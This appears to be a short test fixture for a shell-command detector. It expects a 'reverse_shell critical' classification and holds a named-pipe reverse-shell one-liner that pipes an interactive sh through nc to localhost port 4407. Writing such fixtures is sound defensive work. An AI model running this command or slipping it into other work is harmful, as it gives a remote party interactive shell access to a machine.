# about: mknod makes the named pipe, and the shell reads it itself
# expect: reverse_shell critical
# needs: python3 nc
peer 4407
mknod f p; (sh -i <f 2>&1 | nc -w 3 127.0.0.1 4407 >f) || true
done_typing
